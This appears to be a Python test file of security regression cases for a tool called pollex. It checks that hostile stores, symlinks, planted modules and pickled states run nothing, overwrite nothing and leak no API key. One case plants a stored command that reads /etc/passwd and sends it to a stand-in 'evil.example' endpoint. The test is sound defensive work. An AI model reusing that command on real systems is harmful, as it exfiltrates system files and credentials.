"""What strangers leave behind, stores, folders and links, runs nothing, is written over nowhere, and asks nobody."""

import asyncio
import html
import json
import os
import re
import shutil
import sqlite3
import stat
import subprocess
import sys
from contextlib import closing
from dataclasses import fields
from pathlib import Path
from typing import Any

import pytest
from hostile_store import PLACES, calls_of, damages
from web_site import client_of, made_app

from fault_cases import case
from fault_cases.commands import learned, run
from pollex.errors import PollexError, WrongUse
from pollex.graphs.learn.state import LearnChoice
from pollex.graphs.score import ScoreContext
from pollex.outputs import write_text
from pollex.rooms import list_hooks
from pollex.rooms.exchange.cli.agent_server import repair_request_line
from pollex.rooms.remedy.agents.assistant import FileAssistant
from pollex.rubrics.judge_settings import JudgeSettings
from pollex.store.folder import remove_copies_and_caches
from pollex.store.store import Store
from pollex.store.tables import FactRow
from pollex.studio.hooks import StudioGraph
from pollex.studio.use_cases import collect_filled_fields
from pollex.web.kept_commands import read_kept_command


async def page(folder: Path, path: str) -> str:
    """Return a page that a server shows of a store."""
    with Store.open(folder) as store:
        async with client_of(made_app(store)) as client:
            answer = await client.get(path)
    return f"{answer.status_code} {html.unescape(answer.text)}"


@case("42.1.1", "a store of a stranger runs nothing, and a damaged state is one error in words")
def hostile_states(folder: Path) -> str:
    """Trace and show runs whose states name a command to run, or are damaged, in every place of a checkpoint."""
    named = learned(folder).run
    canary = folder / "canary"
    kinds = calls_of(canary) | damages()
    tried = (
        "a call with one value",
        "a call within a set",
        "a pickle",
        "cut",
        "nested without end",
    )
    for number, (kind, place) in enumerate((kind, place) for kind in tried for place in PLACES):
        store = shutil.copytree(folder / "s", folder / f"s{number}")
        PLACES[place](store, *kinds[kind])
        told = run(folder, "trace", named, "--state", "deduplicate", "--store", store, code=1).err
        assert "a state of a run can't be read" in told, (kind, place, told)
        assert not canary.exists(), f"{kind} in {place} was run"
    told = asyncio.run(page(store, f"/runs/{named}"))
    assert "a state of a run can't be read" in told, told
    return f"{len(tried)} kinds in {len(PLACES)} places"


@case(
    "42.1.3", "devices, pipes and links that the user names stay what they are, and nothing hangs"
)
def outputs(folder: Path) -> str:
    """Write to /dev/null, a pipe without a reader, and links, by commands and by what all of them write with."""
    learned(folder)
    os.mkfifo(folder / "pipe.jsonl")
    (folder / "link.jsonl").symlink_to(folder / "target.jsonl")
    (folder / "null.html").symlink_to(os.devnull)
    score = ("score", "log.jsonl", "--rubrics", "r.json", "--store", "s", "--out")
    assert "nobody reads from this pipe" in run(folder, *score, "pipe.jsonl", code=2).err
    run(folder, *score, "link.jsonl")
    run(folder, "share", "log.jsonl", "--page", "null.html")
    for out in (os.devnull, "pipe.jsonl"):
        refused = run(folder, "learn", "log.jsonl", "--out", out, "--store", "s", code=2).err
        assert "it is no file" in refused, refused
    write_text(Path(os.devnull), "words")
    kinds = [
        stat.S_ISFIFO((folder / "pipe.jsonl").stat().st_mode),
        stat.S_ISCHR(Path(os.devnull).stat().st_mode),
    ]
    assert all([*kinds, (folder / "link.jsonl").is_symlink(), (folder / "null.html").is_symlink()])
    assert len((folder / "target.jsonl").read_text().splitlines()) > 50, (
        "the link's target was not written"
    )
    return "a pipe, a device and two links"


@case("42.1.6", "what the server starts imports no module of the current folder")
def foreign_modules(folder: Path) -> str:
    """Start a command as the server does, in a folder with modules of a stranger's."""
    names = ("click", "numpy", "yaml", "json", "pollex", "pathlib")
    for name in names:
        (folder / f"{name}.py").write_text(f"open('canary', 'a').write({name!r})\n")
    code = """
from pollex.web.children import Children
import time
children = Children()
child = children.start("words", ["runs", "--help"], back="/")
while not child.over:
    time.sleep(0.05)
children.close()
print(child.state)
"""
    done = subprocess.run(  # noqa: S603
        [sys.executable, "-P", "-c", code],
        cwd=folder,
        capture_output=True,
        text=True,
        check=True,
        timeout=60,
    )
    assert done.stdout.strip() == "done", done.stderr
    assert not (folder / "canary").exists(), (folder / "canary").read_text()
    return f"{len(names)} modules, none imported"


@case("42.1.7", "a kept command is shown before it reads or asks, and the key stays with its owner")
def kept_commands(folder: Path) -> str:
    """Change the command of a run to another file and another endpoint, and show and post its pool."""
    named = learned(folder).run
    evil = "http://evil.example/v1"
    command = f"pollex learn /etc/passwd --model m --base-url {evil}"
    with closing(sqlite3.connect(folder / "s" / "store.sqlite")) as database:
        database.execute(
            "UPDATE runs SET arguments = json_set(arguments, '$.command', ?)", (command,)
        )
        database.commit()

    async def posted() -> tuple[int, str, str]:
        with Store.open(folder / "s") as store:
            app: Any = made_app(store)
            async with client_of(app) as client:
                pool = {"text-1": "A.", "polarity-1": "sat", "node": "deduplicate"}
                answer = await client.post(f"/api/runs/{named}/pool", json=pool)
            kept = read_kept_command(app.app.state.site, app.app.state.site.run(named))
        assert kept is not None
        return answer.status_code, answer.text, dict(kept.environment)["OPENAI_API_KEY"]

    status, told, key = asyncio.run(posted())
    assert (status, key) == (409, ""), told
    assert "/etc/passwd" in told, told
    assert evil in told, told
    return f"{status}, without the key"


@case(
    "42.1.8",
    "a work file that is a link is not written through, and no link of a store is followed",
)
def links(folder: Path) -> str:
    """Put links in place of todo.jsonl, a report, and files of a store."""
    learned(folder)
    (mine := folder / "mine").write_text("mine")
    (folder / "asked").mkdir()
    (folder / "asked" / "todo.jsonl").symlink_to(mine)
    (folder / "report.html").unlink()
    (folder / "report.html").symlink_to(mine)
    # the report has another name where somebody's file, or a link, stands in its place
    run(folder, "learn", "log.jsonl", "--out", "r.json", "--store", "s")
    assert (folder / "report.html").is_symlink()
    assert (folder / "r-report.html").is_file()
    (folder / "r-report.html").unlink()
    (folder / "r-report.html").symlink_to(mine)
    refused = run(folder, "learn", "log.jsonl", "--out", "r.json", "--store", "s", code=2).err
    assert "it is a link, and is not followed" in refused, refused
    with pytest.raises(PollexError, match="it is a link"):
        FileAssistant(folder / "asked", {}).write_todo()
    names = ("secret", "senders", "embeddings/x", "checkpoints.sqlite-wal")
    for name in names:
        store = shutil.copytree(folder / "s", folder / f"with {name.replace('/', ' ')}")
        place = store / name
        place.parent.mkdir(exist_ok=True)
        if place.is_dir():
            shutil.rmtree(place)
        place.unlink(missing_ok=True)
        place.symlink_to(mine)
        assert "it is a link" in run(folder, "runs", "--store", store, code=1).err, name
    assert mine.read_text() == "mine"
    return f"{2 + len(names)} links"


@case("42.2.6", "a label that is sent twenty times is one row")
def labels(folder: Path) -> str:
    """Send a thumb twenty times at once."""
    named = learned(folder).run
    first = json.loads((folder / "log.jsonl").read_text().splitlines()[0])["id"]

    async def posted() -> tuple[set[int], int]:
        with Store.open(folder / "s") as store:
            async with client_of(made_app(store)) as client:
                row = {"run": named, "id": first, "who": "Ann", "value": "up"}
                answers = await asyncio.gather(
                    *(client.post("/api/thumbs", json=row) for _ in range(20))
                )
            return {answer.status_code for answer in answers}, int(
                store.value("SELECT count(*) FROM labels")
            )

    statuses, rows = asyncio.run(posted())
    assert (statuses, rows) == ({200}, 1)
    return f"{rows} row"


@case("42.4.1", "half characters that an agent sends become whole ones before they are read")
def half_characters(folder: Path) -> str:  # noqa: ARG001 - a case's form
    """Mend a request with half characters in its names and values."""
    found = repair_request_line(
        json.dumps(
            {
                "jsonrpc": "2.0",
                "id": 1,
                "method": "tools/call",
                "params": {"\ud800": ["a\udfff"]},
            }
        ).encode()
    )
    assert json.loads(found)["params"] == {"\ufffd": ["a\ufffd"]}, found
    return found.decode().strip()


@case("42.4.3", "no word shows the help")
def no_word(folder: Path) -> str:
    """Call the command alone."""
    told = run(folder, code=2).err
    assert re.match("Usage: ", told), told
    return told.splitlines()[0]


@case(
    "42.1.9", "forgetting writes to no file that a store alone names, and to no hidden file or link"
)
def files_of_others(folder: Path) -> str:
    """Forget among an editor's files, a link in place of an output, and a path that a stranger's store names."""
    learned(folder)
    diary = folder / "diary.csv"
    diary.write_text("day,id\n1,bike-001\n")
    notes = folder / "home" / "notes.py"
    notes.parent.mkdir()
    notes.write_text("# bike-001\n")
    score = ("score", "log.jsonl", "--rubrics", "r.json", "--store", "s", "--out")
    run(folder, *score, "s.csv")
    (folder / "s.csv").unlink()
    (folder / "s.csv").symlink_to(diary)
    hidden = [folder / name for name in (".r.json.swp", ".s.csv.mine", ".report.html.bak")]
    for path in hidden:
        path.write_text("x")
    told = {"beside": "", "digest": "0" * 64, "size": 3, "run": ""}
    with Store.open(folder / "s") as store:
        store.put([FactRow("", "output", str(notes), json.dumps(told))])
    forget = ("forget", "--conversation", "bike-001", "--store", "s")
    run(folder, *forget, "--dry-run", code=3)
    run(folder, *forget, "--rewrite", code=3)
    assert all(path.exists() for path in hidden), "a file of an editor is gone"
    assert "bike-001" in diary.read_text(), "a link was written through"
    assert "bike-001" in notes.read_text(), "a path of the store was believed"
    return f"{len(hidden)} hidden files, a link and a path"


@case("42.1.10", "a store in a folder of the user's leaves their files when it serves and forgets")
def folder_of_the_user(folder: Path) -> str:
    """Clear copies and caches of a store that has files of the user's under the same folders."""
    theirs = [folder / name for name in ("drafts/novel.txt", "embeddings/mine.npy", "drafts/old")]
    ours = folder / "drafts" / "0a1b2c3d-1-0a1b" / "log.jsonl"
    for path in (*theirs, ours):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("x")
    remove_copies_and_caches(folder)
    assert all(path.exists() for path in theirs)
    assert not ours.exists()
    return f"{len(theirs)} files stay"


@case("42.1.11", "an embedding model that a set names is refused until the user names it, too")
def embedding_model(folder: Path) -> str:
    """Ask by a set whose judge is a model, and which names a folder as its embedding model."""
    ours = learned(folder)
    options = JudgeSettings(embedding_model=str(folder / "evil"))
    judge = ours.judge.model_copy(update={"kind": "llm", "name": "m", "options": options})
    ours.model_copy(update={"judge": judge}).save(folder / "e.json")
    at = ("--rubrics", "e.json", "--store", "n", "--base-url", "http://127.0.0.1:9/v1")
    verbs = (("score",), ("evaluate",), ("refit",), ("label", "next"))
    for verb in verbs:
        told = run(folder, *verb, "log.jsonl", *at, code=2).err
        assert "judge embeds with" in told, (verb, told)
    return f"{len(verbs)} commands"


@case("42.4.4", "a wrong type in any field of a graph's context is told with what to give")
def contexts(folder: Path) -> str:  # noqa: ARG001 - a case's form
    """Fill in each field of each graph with what it isn't."""
    forms = [ScoreContext, LearnChoice]
    forms += [graph.build().context_schema for graph in list_hooks(StudioGraph)]
    refused = 0
    for form in forms:
        for field in fields(form):
            for value in ({"a": {"b": 1}}, [[5]], float("nan")):
                with pytest.raises(WrongUse, match=rf"^{field.name} can't be .*give "):
                    collect_filled_fields(form(**{field.name: value}))
                refused += 1
    return f"{refused} values"
